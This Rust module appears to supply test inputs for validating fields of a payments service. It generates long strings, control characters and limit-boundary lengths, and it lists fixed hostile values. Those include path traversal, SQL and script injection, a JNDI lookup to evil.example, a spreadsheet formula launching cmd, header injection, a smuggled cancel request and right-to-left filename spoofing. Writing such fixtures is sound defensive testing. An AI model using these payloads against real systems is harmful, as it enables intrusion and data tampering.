//! Texts that callers send by mistake or on purpose.

/// Named texts, the same for every field.
pub(super) fn hostile() -> Vec<(String, String)> {
    let mut texts: Vec<(String, String)> = FIXED.iter().map(|(name, text)| (own(name), own(text))).collect();
    for (name, unit, count) in [
        ("a thousand letters", "a", 1_000),
        ("fifty thousand digits", "7", 50_000),
        ("a thousand syllables", "가", 1_000),
        ("a thousand combining marks", "\u{301}", 1_000),
        ("a thousand steps up", "../", 1_000),
    ] {
        texts.push((own(name), unit.repeat(count)));
    }
    for code in (0..0x20).chain(0x7f..0xa0) {
        let control = char::from_u32(code).expect("a character");
        texts.push((format!("control U+{code:04X} within"), format!("abc{control}def")));
    }
    texts
}

/// Around a limit: one less, just so, one more, of characters of one to four bytes.
pub(super) fn around(limit: usize) -> Vec<(String, String)> {
    let mut texts = Vec::new();
    for (name, unit) in [("digits", "7"), ("letters", "a"), ("syllables", "가"), ("emoji", "😀")] {
        let size = unit.len();
        let utf16 = unit.encode_utf16().count();
        // the limit may count characters, bytes or UTF-16 units
        for count in [limit, limit / size, limit / utf16] {
            for count in [count.saturating_sub(1), count, count + 1] {
                let text = (format!("{count} {name}"), unit.repeat(count));
                if !texts.contains(&text) {
                    texts.push(text);
                }
            }
        }
    }
    texts
}

fn own(text: &str) -> String {
    text.to_owned()
}

const FIXED: &[(&str, &str)] = &[
    ("nothing", ""),
    ("a space", " "),
    ("three spaces", "   "),
    ("a full-width space", "\u{3000}"),
    ("a no-break space", "\u{a0}"),
    ("a tab", "\t"),
    ("a line feed", "\n"),
    ("carriage return and line feed", "\r\n"),
    ("a null byte", "\0"),
    ("plain", "plain-1"),
    ("plain with a space before", " plain-1"),
    ("plain with a space behind", "plain-1 "),
    ("plain with a line feed behind", "plain-1\n"),
    ("one dot", "."),
    ("two dots", ".."),
    ("three dots", "..."),
    ("a step up", "../x"),
    ("a step up, encoded", "%2e%2e%2fx"),
    ("a step up, encoded twice", "%252e%252e%252fx"),
    ("a step up, backslash", "..\\x"),
    ("a step up, overlong", "..%c0%afx"),
    ("another operation", "../users/getToken"),
    ("another host", "//evil.example/x"),
    ("a url", "https://evil.example/x"),
    ("a slash", "a/b"),
    ("a backslash", "a\\b"),
    ("an encoded slash", "a%2fb"),
    ("an encoded null", "a%00b"),
    ("an encoded line", "a%0d%0ab"),
    ("a query", "a?amount=0"),
    ("a fragment", "a#b"),
    ("a parameter", "a;b=c"),
    ("an ampersand", "a&b=c"),
    ("a percent sign", "100%"),
    ("a plus", "a+b"),
    ("an at", "user@host"),
    ("a colon", "mid:key"),
    ("a comma", "a,b"),
    ("a pipe", "a|b"),
    ("a brace", "{a}"),
    ("an asterisk", "a*b"),
    ("a quote", "a\"b"),
    ("an apostrophe", "a'b"),
    ("a backquote", "a`b"),
    ("json", "x\",\"amount\":0,\"y\":\""),
    ("sql", "1' OR '1'='1"),
    ("html", "<script>alert(1)</script>"),
    ("a template", "${jndi:ldap://evil.example/a}"),
    ("a format", "%s%s%n"),
    ("a spreadsheet's formula", "=cmd|' /C calc'!A0"),
    ("a header", "x\r\nX-Injected: 1"),
    ("a header, line feed alone", "x\nX-Injected: 1"),
    ("a second request", "x\r\n\r\nPOST /payments/cancel HTTP/1.1\r\n\r\n"),
    ("a log line", "x\n2026-11-21 INFO refunded everything"),
    ("an ansi colour", "\u{1b}[31mred\u{1b}[0m"),
    ("an ansi title", "\u{1b}]0;title\u{7}"),
    ("a c1 escape", "\u{9b}31m"),
    ("a next line", "a\u{85}b"),
    ("a line separator", "a\u{2028}b"),
    ("a paragraph separator", "a\u{2029}b"),
    ("right to left", "a\u{202e}gpj.exe"),
    ("an isolate", "a\u{2066}b\u{2069}"),
    ("an arabic mark", "a\u{61c}b"),
    ("a zero-width space", "a\u{200b}b"),
    ("a zero-width joiner", "a\u{200d}b"),
    ("a word joiner", "a\u{2060}b"),
    ("a byte order mark", "\u{feff}ab"),
    ("a soft hyphen", "a\u{ad}b"),
    ("a variation selector", "a\u{fe0f}b"),
    ("a tag character", "a\u{e0041}b"),
    ("a replacement character", "a\u{fffd}b"),
    ("a noncharacter", "a\u{ffff}b"),
    ("private use", "a\u{e000}b"),
    ("an escaped surrogate", "\\ud800"),
    ("korean", "고객 변심"),
    ("korean, decomposed", "\u{1112}\u{1161}\u{11ab}"),
    ("a cyrillic look-alike", "імр_1"),
    ("an emoji", "😀"),
    ("an old emoji", "☎"),
    ("full-width digits", "１０００"),
    ("full-width letters", "ａｂｃ"),
    ("arabic digits", "١٢٣"),
    ("superscript", "10²"),
    (
        "a hundred and ten digits",
        concat!(
            "1234567890123456789012345678901234567890",
            "1234567890123456789012345678901234567890",
            "123456789012345678901234567890"
        ),
    ),
    ("digits", "12345678"),
    ("digits with hyphens", "110-123-456789"),
    ("digits with spaces", "110 123 456789"),
    ("digits with a letter", "110a123"),
    ("digits with dots", "110.123.456"),
    ("a negative number", "-1"),
    ("a signed number", "+1"),
    ("an international number", "+82-10-1234-5678"),
    ("a float", "1.5"),
    ("an exponent", "1e3"),
    ("a hexadecimal", "0x10"),
    ("not a number", "NaN"),
    ("null", "null"),
    ("undefined", "undefined"),
    ("a leading zero", "007"),
    ("24 letters and digits", "1849705C6420220922000013"),
    ("10 letters and digits", "1849705C64"),
    ("32 visible", "pgSettle30y739r82jtd709yOfZ2yK5K"),
    ("a method", "CA"),
    ("a method in small letters", "ca"),
    ("a method with a space", "CA "),
    ("a tag", "c5qkzrb4zhcw2plcpzcxj3ab7ya"),
    ("a bank's code", "088"),
    ("a bank's code of kcp", "BK88"),
];
